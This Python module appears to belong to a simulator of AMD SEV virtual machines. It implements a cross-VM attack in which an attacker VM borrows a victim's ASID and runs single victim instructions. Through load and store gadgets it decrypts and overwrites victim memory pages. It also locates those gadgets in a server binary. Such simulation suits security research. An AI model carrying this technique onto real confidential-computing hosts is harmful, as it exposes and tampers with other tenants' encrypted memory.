"""Momentary execution of victim instructions inside an attacker VM that
borrows the victim's ASID. The attacker lays out nested mappings for one
code page and one data page, picks RIP and the registers in its cleartext
save area, runs a single victim instruction and reads the result back from
the same save area once the VM has crashed."""

from __future__ import annotations

from typing import Optional

from ..errors import GadgetNotFound, SevEsUnsupported, SevSimError
from ..hypervisor.core import GuestVm, Hypervisor
from ..paging import PAGE_MASK, PAGE_SIZE, gva_from_indices, va_indices
from ..scanner import gadget_hits
from ..vm_core.vmcb import TLB_FLUSH_ASID, SaveState
from ..workloads import LOAD_GADGET, STORE_GADGET
from .report import LeakedBlock, LeakReport
from .v1 import DumpResult, TablePath, V1Reader

QWORDS = PAGE_SIZE // 8


def _require_plain_sev(*vms: GuestVm) -> None:
    for vm in vms:
        if vm.vmcb.control.sev_es:
            raise SevEsUnsupported(f"{vm.vm_id}: RIP and registers live in the encrypted VMSA")


class PathResolver:
    """Finds the gPT path of a victim gVA, either from a finished dump or by
    leaking just the four entries it needs."""

    def __init__(self, reader: V1Reader, gcr3: int, dump: Optional[DumpResult] = None):
        self.reader = reader
        self.gcr3 = gcr3
        self.active: Optional["MomentaryExec"] = None   # whose nested mappings are installed
        self._entries: dict[tuple[int, int], int] = {}
        if dump is not None:
            for table, entries in dump.tree.items():
                for idx, pfn in entries.items():
                    self._entries[(table, idx)] = pfn

    def _entry(self, table: int, idx: int, path: TablePath) -> int:
        key = (table, idx)
        if key not in self._entries:
            spa = self.reader.victim.spa_of(table) + 8 * idx
            self.active = None
            if len(path.tables) == 4:
                res = self.reader.read_block_last_level(spa, path)
            else:
                res = self.reader.read_block(spa)
            if not isinstance(res, LeakedBlock):
                raise SevSimError(f"entry {idx} of table {table:#x} did not leak")
            self._entries[key] = res.pfn
        return self._entries[key]

    def resolve(self, gva: int) -> tuple[TablePath, int]:
        """(path to the level-1 table, leaf gPA page) for ``gva``."""
        idx = va_indices(gva)
        path = TablePath((self.gcr3,), ())
        for i in idx[:3]:
            nxt = self._entry(path.tables[-1], i, path) << 12
            path = TablePath(path.tables + (nxt,), path.indices + (i,))
        leaf = self._entry(path.tables[-1], idx[3], path) << 12
        return path, leaf


class MomentaryExec:
    """Attacker prepared to run the victim instruction at ``code_gva``.

    ``data_gva`` is the victim address the instruction will dereference;
    its last-level nested entry can be pointed at any frame with
    :meth:`retarget`.
    """

    def __init__(self, hv: Hypervisor, victim: GuestVm, attacker: GuestVm, code_gva: int,
                 data_gva: Optional[int] = None, *, resolver: Optional[PathResolver] = None,
                 report: Optional[LeakReport] = None):
        _require_plain_sev(victim, attacker)
        self.hv = hv
        self.victim = victim
        self.code_gva = code_gva
        self.data_gva = data_gva
        if resolver is None:
            reader = V1Reader(hv, victim, attacker, report=report)
            resolver = PathResolver(reader, hv.capture_gcr3(victim))
        self.resolver = resolver
        self.reader = resolver.reader
        self.invocations = 0

        code_path, code_leaf = resolver.resolve(code_gva)
        maps: dict[int, int] = {}
        for t in code_path.tables:
            maps[t] = victim.spa_of(t) >> 12
        maps[code_leaf] = victim.spa_of(code_leaf) >> 12
        self.data_leaf: Optional[int] = None
        if data_gva is not None:
            data_path, data_leaf = resolver.resolve(data_gva)
            if data_leaf in maps:
                raise SevSimError("code and data must sit in different pages")
            for t in data_path.tables:
                maps[t] = victim.spa_of(t) >> 12
            maps[data_leaf] = victim.spa_of(data_leaf) >> 12
            self.data_leaf = data_leaf
        self.target = None if self.data_leaf is None else maps[self.data_leaf]
        self._maps = maps

        # everything below lives in the VMCB except the nested mappings
        self.reader._reset()
        att = self.attacker
        self._install()
        hv.set_cr3(att, resolver.gcr3)
        hv.set_asid(att, victim.asid)
        hv.set_rip(att, code_gva)
        hv.set_interrupt_flag(att, False)
        hv.request_tlb_flush(att, TLB_FLUSH_ASID)
        self._prepared = hv.snapshot(att)

    @property
    def attacker(self) -> GuestVm:
        return self.reader.attacker

    def _install(self) -> None:
        hv, att = self.hv, self.attacker
        hv.clear_present_bits(att)
        for gpa, spfn in self._maps.items():
            hv.map_gpa(att, gpa, spfn)
        self.resolver.active = self
        self._flush = True

    def retarget(self, spfn: int) -> None:
        if self.data_leaf is None:
            raise SevSimError("no data page to retarget")
        if spfn != self.target:
            self._maps[self.data_leaf] = spfn
            if self.resolver.active is self:
                self.hv.map_gpa(self.attacker, self.data_leaf, spfn)
            self.target = spfn
            self._flush = True

    def run(self, **regs: int) -> SaveState:
        hv, att = self.hv, self.attacker
        if self.resolver.active is not self:
            self._install()
        hv.rewind(att, self._prepared)
        if regs:
            hv.set_regs(att, **regs)
        if self._flush:
            hv.request_tlb_flush(att, TLB_FLUSH_ASID)
            self._flush = False
        hv.run(att)
        self.invocations += 1
        return att.vmcb.save.copy()

    def finish(self) -> None:
        """Drop translations the attacker left under the victim's ASID."""
        self.hv.request_tlb_flush(self.victim, TLB_FLUSH_ASID)


def v2_momentary_exec(hv: Hypervisor, victim: GuestVm, attacker: GuestVm, gva0: int,
                      reg_setup: Optional[dict[str, int]] = None, *, data_gva: Optional[int] = None,
                      target_spfn: Optional[int] = None,
                      resolver: Optional[PathResolver] = None) -> SaveState:
    """Run the one victim instruction at ``gva0``; return the registers after the exit."""
    mx = MomentaryExec(hv, victim, attacker, gva0, data_gva, resolver=resolver)
    if target_spfn is not None:
        mx.retarget(target_spfn)
    state = mx.run(**(reg_setup or {}))
    mx.finish()
    return state


def v2_decrypt_page(mx: MomentaryExec, spfn: int) -> bytes:
    """Read a whole victim frame through a ``mov (%rbx),%rax`` gadget."""
    if mx.data_gva is None:
        raise SevSimError("decryption needs a data gVA")
    mx.retarget(spfn)
    base = mx.data_gva & ~PAGE_MASK
    out = bytearray()
    for i in range(QWORDS):
        s = mx.run(rbx=base + 8 * i)
        out += s.reg("rax").to_bytes(8, "little")
    return bytes(out)


def v2_encrypt_page(mx: MomentaryExec, spfn: int, content: bytes) -> None:
    """Write ``content`` into a victim frame through a ``mov %rax,(%r12)`` gadget."""
    if len(content) != PAGE_SIZE:
        raise ValueError("content must be one page")
    if mx.data_gva is None:
        raise SevSimError("encryption needs a data gVA")
    mx.retarget(spfn)
    base = mx.data_gva & ~PAGE_MASK
    for i in range(QWORDS):
        mx.run(r12=base + 8 * i, rax=int.from_bytes(content[8 * i:8 * i + 8], "little"))


def _lowest_leaf(resolver: PathResolver) -> int:
    """Follow the smallest leakable index at every level; return its gVA."""
    reader, victim = resolver.reader, resolver.reader.victim
    resolver.active = None
    path = TablePath((resolver.gcr3,), ())
    for _level in (4, 3, 2):
        table = path.tables[-1]
        for i in range(QWORDS):
            res = reader.read_block(victim.spa_of(table) + 8 * i)
            if isinstance(res, LeakedBlock):
                resolver._entries[(table, i)] = res.pfn
                path = TablePath(path.tables + (res.pfn << 12,), path.indices + (i,))
                break
        else:
            raise GadgetNotFound(f"no present entry in table {table:#x}")
    table = path.tables[-1]
    for i in range(QWORDS):
        res = reader.read_block_last_level(victim.spa_of(table) + 8 * i, path)
        if isinstance(res, LeakedBlock):
            resolver._entries[(table, i)] = res.pfn
            i4, i3, i2 = path.indices
            return gva_from_indices(i4, i3, i2, i)
    raise GadgetNotFound(f"no present entry in table {table:#x}")


def locate_gadgets(hv: Hypervisor, victim: GuestVm, attacker: GuestVm, binary: bytes, *,
                   verify: bool = True, report: Optional[LeakReport] = None) -> dict[str, int]:
    """Find the load and store gadgets of a running server binary.

    The binary's file layout is known; its load address is not. The lowest
    mapped user page is taken as the image base.
    """
    _require_plain_sev(victim, attacker)
    hits = gadget_hits(binary, {"load": LOAD_GADGET, "store": STORE_GADGET})
    found = {}
    for name in ("load", "store"):
        offs = [h.offset for h in hits if h.pattern_id == name]
        if not offs:
            raise GadgetNotFound(f"no {name} gadget in binary")
        found[name] = offs[0]

    reader = V1Reader(hv, victim, attacker, report=report)
    resolver = PathResolver(reader, hv.capture_gcr3(victim))
    base = _lowest_leaf(resolver)
    out = {"image_base": base, "load_gadget": base + found["load"], "store_gadget": base + found["store"]}
    if verify:
        verify_gadgets(hv, victim, out, binary, resolver)
    return out


def verify_gadgets(hv: Hypervisor, victim: GuestVm, gadgets: dict[str, int], binary: bytes,
                   resolver: PathResolver) -> None:
    base = gadgets["image_base"]
    load = MomentaryExec(hv, victim, resolver.reader.attacker, gadgets["load_gadget"], base,
                         resolver=resolver)
    head = load.run(rbx=base).reg("rax")
    if head != int.from_bytes(binary[:8], "little"):
        raise GadgetNotFound("load gadget did not return the binary's first bytes")
    store = MomentaryExec(hv, victim, resolver.reader.attacker, gadgets["store_gadget"], base,
                          resolver=resolver)
    probe = head ^ 0x5A5A_5A5A_5A5A_5A5A
    store.run(r12=base, rax=probe)
    if load.run(rbx=base).reg("rax") != probe:
        raise GadgetNotFound("store gadget did not change memory")
    store.run(r12=base, rax=head)
    load.finish()
